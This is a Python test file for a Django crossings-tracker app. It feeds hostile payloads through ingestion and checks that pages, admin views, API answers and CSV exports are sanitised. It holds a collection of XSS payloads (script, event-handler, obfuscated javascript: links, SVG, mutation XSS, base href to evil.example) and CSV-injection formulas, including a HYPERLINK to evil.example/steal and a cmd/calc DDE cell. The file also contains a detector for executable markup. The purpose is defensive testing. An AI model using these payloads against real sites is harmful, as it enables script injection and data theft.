"""Hostile markup, end to end: script, event-handler, ``javascript:`` and SVG payloads (in titles, summaries, links,
a source's name, and what editors type: a crossing alias, a status note, an event title) go through the real
ingestion pipeline, from a local HTTP server through the guarded client; then every page, admin list and change
page, and API answer (JSON, CSV, GeoJSON) that shows them is read for markup a browser would execute, and every
CSV for cells a spreadsheet would run as a formula. The API's HTML fields (``summary_html``, ``snippet``) must be
sanitised; its other strings are plain text in JSON, which no browser renders (JSON content type, nosniff).

Each payload carries a marker (``XSS-...``), and the test also checks the markers reach the answers, as text: a
payload dropped on the way in would make the check pass for nothing.
"""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, date, datetime
from html.parser import HTMLParser
from typing import Any

import pytest
from django.core.cache import cache
from django.test import Client

from ingest import pipeline
from ingest import services as ingest_services
from ingest.models import QuarantinedItem
from tests.http_server import Reply
from tests.ingest_fixtures.support import crossings, feed_source, rss
from tracker import services
from tracker.api import services as api_services
from tracker.models import CrossingAlias, Report, Source, StatusSuggestion, TimelineEvent

pytestmark = pytest.mark.django_db

SCRIPT = "<script>alert('XSS-script')</script>"
HANDLER = "<img src=x onerror=\"alert('XSS-handler')\">"
JS_LINK = "<a href=\"javascript:alert('XSS-jslink')\">XSS-jslink-text</a>"
JS_LINK_OBFUSCATED = '<a href="jav&#x09;ascript:alert(1)">XSS-tab-link</a><a href=" JaVaScRiPt:alert(2)">XSS-case</a>'
SVG = (
    "<svg onload=\"alert('XSS-svg')\"><script>alert('XSS-svg-script')</script>"
    '<a xlink:href="javascript:alert(3)"><text>XSS-svg-text</text></a></svg>'
)
SVG_ANIMATE = (
    '<svg><animate attributeName="href" to="javascript:alert(4)"/>'
    '<set attributeName="onmouseover" to="alert(5)"/></svg>'
)
MUTATION = "<math><mtext><table><mglyph><style><img src=x onerror=\"alert('XSS-mxss')\">"
FRAMES = (
    '<iframe src="javascript:alert(6)"></iframe>'
    '<object data="data:text/html,<script>alert(7)</script>"></object><embed src="x.svg">'
)
STYLE = '<style>@import "javascript:alert(8)";</style><p style="background:url(javascript:alert(9))">XSS-styled</p>'
FORMS = (
    '<form action="javascript:alert(10)"><button formaction="javascript:alert(11)">XSS-button</button></form>'
    '<base href="//evil.example/">'
)
META = '<meta http-equiv="refresh" content="0;url=javascript:alert(12)">'
SUMMARY = "".join(
    [
        "<p>Rafah crossing closed to aid trucks, officials said. XSS-summary</p>",
        SCRIPT,
        HANDLER,
        JS_LINK,
        JS_LINK_OBFUSCATED,
        SVG,
        SVG_ANIMATE,
        MUTATION,
        FRAMES,
        STYLE,
        FORMS,
        META,
    ]
)
FORMULA = '=HYPERLINK("http://evil.example/steal","Rafah")'

ITEMS = [
    {
        "guid": "xss-1",
        "title": f"Rafah crossing closed {SCRIPT} XSS-title-1",
        "link": "javascript:alert('XSS-itemlink')",
        "description": SUMMARY,
        "pubDate": "Mon, 16 Oct 2023 09:00:00 GMT",
    },
    {
        "guid": "xss-2",
        "title": f'"><svg/onload=alert(1)> Kerem Shalom reopened for aid {HANDLER} XSS-title-2',
        "link": 'https://news.example.org/a"onmouseover="alert(1)"x=<script>',
        "description": f"<p>Kerem Shalom reopened for aid trucks. XSS-summary-2</p>{SVG}",
        "pubDate": "Tue, 17 Oct 2023 09:00:00 GMT",
    },
    {
        "guid": "xss-3",
        "title": f"{FORMULA} XSS-title-3 Rafah crossing closed",
        "link": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "description": "<p>+cmd|' /C calc'!A0 Rafah crossing closed again.</p>",
        "pubDate": "Wed, 18 Oct 2023 09:00:00 GMT",
    },
]
SOURCE_NAME = "<script>alert('XSS-source')</script> Feed <img src=x onerror=alert(1)>"
ALIAS = "Rafah <svg onload=alert('XSS-alias')>"
NOTE = "Closed, said <b onmouseover=\"alert('XSS-note')\">officials</b> <script>alert(1)</script> XSS-note"
EVENT = "<iframe src=javascript:alert('XSS-event')></iframe> Meeting in Cairo XSS-event"
MARKERS = ["XSS-title-1", "XSS-title-2", "XSS-title-3", "XSS-summary", "XSS-note"]


# --- what counts as executable -------------------------------------------------------------------------------

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "to", "from"}
ACTIVE_ELEMENTS = {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "style"}
ALLOWED_DATA_URLS = {"data:,"}  # the pages' empty favicon


def _scheme(url: str) -> str:
    squeezed = re.sub(r"[\x00-\x20]", "", url).lower()
    return squeezed.split(":", 1)[0] + ":" if ":" in squeezed.split("/", 1)[0] else ""


class _Finder(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        for name, value in values.items():
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}=...>")
            dangerous = _scheme(value) in {"javascript:", "vbscript:", "data:"} and value not in ALLOWED_DATA_URLS
            if name in URL_ATTRIBUTES and dangerous:
                self.found.append(f"<{tag} {name}={value[:40]!r}>")
            if name == "style" and re.search(r"url\s*\(|expression\s*\(|javascript:", value, re.I):
                self.found.append(f"<{tag} style={value[:40]!r}>")
            if name == "attributename" and value.lower().startswith(("on", "href", "xlink:href")):
                self.found.append(f"<{tag} attributeName={value!r}>")
        if tag == "script":
            if values.get("type") == "application/json" and "src" not in values:
                return  # data, not code (Django's json_script)
            if not values.get("src", "").startswith("/static/") and not values.get("src", "").startswith("/admin/"):
                self.found.append(f"<script {values}>")
        if tag in ACTIVE_ELEMENTS:
            self.found.append(f"<{tag}>")
        if tag == "meta" and values.get("http-equiv", "").lower() == "refresh":
            self.found.append("<meta refresh>")

    handle_startendtag = handle_starttag


def executable(html: str) -> list[str]:
    finder = _Finder()
    finder.feed(html)
    finder.close()
    return finder.found


def strings(value: Any, key: str = "") -> list[tuple[str, str]]:
    """Every string in a JSON document, with the name of the field that holds it."""
    if isinstance(value, str):
        return [(key, value)]
    if isinstance(value, dict):
        return [s for k, v in value.items() for s in strings(v, k)]
    if isinstance(value, list):
        return [s for v in value for s in strings(v, key)]
    return []


def html_field(name: str) -> bool:
    """Fields the API documents as HTML for partners to display as such; every other string is plain text."""
    return name.endswith("_html") or name == "snippet"


# --- the data set: ingested for real, then reviewed ------------------------------------------------------------


@pytest.fixture
def hostile(allow_server, editor):  # type: ignore[no-untyped-def]
    places = crossings()
    rafah = places["rafah"]
    CrossingAlias.objects.create(crossing=rafah, name=ALIAS, language="en")
    allow_server.routes["/feed"] = Reply(200, rss(ITEMS, title=f"{SCRIPT} Channel"))
    source = feed_source(allow_server.url("/feed"), name=SOURCE_NAME)
    outcome = pipeline.poll_source(source.pk, holder="xss-test")
    assert outcome.status == "succeeded", outcome.error
    assert outcome.counts.new == 3, outcome.counts
    for report in Report.objects.all():
        services.report_review(report=report, state=Report.ReviewState.RELEVANT, reviewed_by=editor)
    suggestion = StatusSuggestion.objects.filter(crossing=rafah).first()
    assert suggestion is not None, "the hostile report still names Rafah as closed"
    services.suggestion_accept(suggestion=suggestion, decided_by=editor)
    services.crossing_record_status(
        crossing=rafah,
        status="closed",
        traffic="people",
        effective_at=datetime(2023, 10, 19, tzinfo=UTC),
        recorded_by=editor,
        note=NOTE,
    )
    event = TimelineEvent.objects.create(
        crisis=places["crisis"], occurred_on=date(2023, 10, 18), title=EVENT, kind=TimelineEvent.Kind.DIPLOMATIC_MEETING
    )
    event.reports.add(*Report.objects.all())
    # The admin index names sources that keep failing: make this one of them.
    Source.objects.filter(pk=source.pk).update(failures_in_row=5, last_error=f"HTTP 500 {SCRIPT}")
    ingest_services.quarantine_record(
        source=source, kind="entry", reason=f"too large {SCRIPT}", title=ITEMS[0]["title"], raw=SUMMARY.encode()
    )
    return {"rafah": rafah, "source": Source.objects.get(pk=source.pk), "crisis": places["crisis"], "event": event}


def test_ingested_payloads_are_stored_sanitised_and_links_only_http(hostile):
    for report in Report.objects.all():
        assert executable(report.summary_html) == [], report.summary_html
        assert report.url == "" or report.url.startswith("https://"), report.url
    titles = " ".join(Report.objects.values_list("title", flat=True))
    assert all(marker in titles for marker in ("XSS-title-1", "XSS-title-2", "XSS-title-3"))


def _pages(hostile) -> list[str]:  # type: ignore[no-untyped-def]
    crossing, crisis = hostile["rafah"], hostile["crisis"]
    return [
        "/",
        f"/crises/{crisis.slug}/",
        f"/crossings/{crossing.slug}/",
        "/timeline/",
        "/reports/",
        "/reports/?q=Rafah",
        "/map/",
    ]


@pytest.mark.parametrize("who", ["analyst", "editor"])
def test_no_page_carries_executable_markup(hostile, client, request, who):
    client.force_login(request.getfixturevalue(who))
    seen = ""
    for url in _pages(hostile):
        response = client.get(url)
        assert response.status_code == 200, url
        html = response.content.decode()
        assert executable(html) == [], url
        seen += html
    for marker in MARKERS:
        assert marker in seen, f"{marker} never reached a page: the check would prove nothing"


def test_no_admin_list_or_change_page_carries_executable_markup(hostile, editor_client):
    rafah, source = hostile["rafah"], hostile["source"]
    report = Report.objects.order_by("id").first()
    suggestion = StatusSuggestion.objects.first()
    status_row = rafah.statuses.order_by("-id").first()
    quarantined = QuarantinedItem.objects.first()
    urls = [
        "/admin/",
        "/admin/tracker/report/",
        f"/admin/tracker/report/{report.pk}/change/",
        f"/admin/tracker/report/{report.pk}/history/",
        "/admin/tracker/source/",
        f"/admin/tracker/source/{source.pk}/change/",
        "/admin/tracker/crossing/",
        f"/admin/tracker/crossing/{rafah.pk}/change/",
        "/admin/tracker/crossingstatus/",
        f"/admin/tracker/crossingstatus/{status_row.pk}/change/",
        "/admin/tracker/statussuggestion/",
        f"/admin/tracker/statussuggestion/{suggestion.pk}/change/",
        "/admin/tracker/timelineevent/",
        f"/admin/tracker/timelineevent/{hostile['event'].pk}/change/",
        "/admin/tracker/change/",
        "/admin/ingest/fetchrun/",
        "/admin/ingest/quarantineditem/",
        f"/admin/ingest/quarantineditem/{quarantined.pk}/change/",
        "/admin/audit/",
        "/admin/tracker/report/?q=Rafah",
    ]
    seen = ""
    for url in urls:
        response = editor_client.get(url)
        assert response.status_code == 200, url
        html = response.content.decode()
        assert executable(html) == [], url
        seen += html
    assert "XSS-source" in seen and "XSS-title-1" in seen and "XSS-alias" in seen
    raw = editor_client.get(f"/admin/ingest/quarantineditem/{quarantined.pk}/raw/")
    assert raw["Content-Type"] == "application/octet-stream" and raw["X-Content-Type-Options"] == "nosniff"
    assert raw["Content-Disposition"].startswith("attachment")


@pytest.fixture
def partner(hostile):  # type: ignore[no-untyped-def]
    cache.clear()
    key = api_services.token_create(partner="XSS check", created_by=None).key
    return Client(headers={"Authorization": f"Bearer {key}"})


def test_api_json_and_geojson_carry_only_sanitised_markup_as_json(hostile, partner):
    report = Report.objects.order_by("id").first()
    urls = [
        "/api/v1/reports/",
        f"/api/v1/reports/{report.uid}/",
        "/api/v1/reports/?q=Rafah",
        "/api/v1/crossings/",
        f"/api/v1/crossings/{hostile['rafah'].slug}/",
        f"/api/v1/crossings/{hostile['rafah'].slug}/history/",
        "/api/v1/changes/",
        "/api/v1/timeline/",
        "/api/v1/crossings/?format=geojson",
    ]
    seen, html_seen = [], []
    for url in urls:
        # A browser asking for HTML still gets JSON, which it does not render (nor sniff into HTML).
        response = partner.get(url, headers={"Accept": "text/html,application/xhtml+xml,*/*;q=0.8"})
        assert response.status_code == 200, url
        assert response["Content-Type"].split(";")[0] in {"application/json", "application/geo+json"}, url
        assert response["X-Content-Type-Options"] == "nosniff"
        for name, text in strings(json.loads(response.content)):
            if html_field(name):
                assert executable(text) == [], (url, name, text)
                html_seen.append(text)
            seen.append(text)
    joined = " ".join(seen)
    for marker in MARKERS:
        assert marker in joined, marker
    assert any("XSS-summary" in text for text in html_seen), "the sanitised summaries were checked"
    # Plain-text fields come back exactly as the source or the editor wrote them: escaping is the display's job.
    assert SOURCE_NAME in joined and ITEMS[0]["title"].split(" XSS")[0] in joined


def _formulas(body: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(body)))
    return [cell for row in rows for cell in row if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]


def test_csv_exports_are_downloads_and_hold_no_formula(hostile, partner, analyst_client):
    exports = [
        (partner, "/api/v1/reports/?format=csv"),
        (partner, "/api/v1/crossings/?format=csv"),
        (partner, f"/api/v1/crossings/{hostile['rafah'].slug}/history/?format=csv"),
        (partner, "/api/v1/timeline/?format=csv"),
        (analyst_client, "/?format=csv"),
        (analyst_client, f"/crossings/{hostile['rafah'].slug}/?format=csv"),
        (analyst_client, "/reports/?format=csv"),
        (analyst_client, "/timeline/?format=csv"),
    ]
    seen = ""
    for client, url in exports:
        response = client.get(url)
        assert response.status_code == 200, url
        assert response["Content-Type"].startswith("text/csv"), url
        assert response["Content-Disposition"].startswith("attachment"), url
        body = b"".join(response.streaming_content).decode() if response.streaming else response.content.decode()
        assert _formulas(body) == [], url
        seen += body
    assert "XSS-title-3" in seen and "XSS-note" in seen


def test_the_checker_itself_finds_each_kind_of_payload():
    """The detector is part of the test: it must flag every payload when served raw."""
    for payload in [SCRIPT, HANDLER, JS_LINK, SVG, SVG_ANIMATE, MUTATION, FRAMES, STYLE, FORMS, META]:
        assert executable(payload), payload
    assert executable('<a href="jav&#x09;ascript:alert(1)">x</a>') and executable('<a href=" JaVaScRiPt:x">x</a>')
    assert not executable('<p>&lt;script&gt;alert(1)&lt;/script&gt;</p><a href="https://example.org/">ok</a>')
    assert _formulas('a,b\n=1+1,"+x"\n') == ["=1+1", "+x"]
